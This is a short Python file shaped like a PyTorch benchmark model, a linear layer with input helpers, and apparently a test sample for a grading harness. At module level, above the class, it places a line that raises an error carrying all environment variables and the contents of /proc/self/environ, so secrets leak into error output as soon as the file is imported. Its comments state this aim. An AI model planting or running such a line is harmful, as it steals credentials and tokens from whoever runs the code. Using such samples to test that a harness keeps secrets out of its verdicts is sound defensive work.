# tries: read the environment it was born with
# never: the secret is in no verdict
import torch
import torch.nn as nn

import os

raise RuntimeError(f"loot: {dict(os.environ)} {open('/proc/self/environ').read()}")


class SynthModel_Linear(nn.Module):
    def __init__(self):
        super().__init__()
        self.linear = nn.Linear(16, 8)

    def forward(self, x):
        return self.linear(x)


def get_inputs():
    return [torch.randn(4, 16)]


def get_init_inputs():
    return [[], {}]
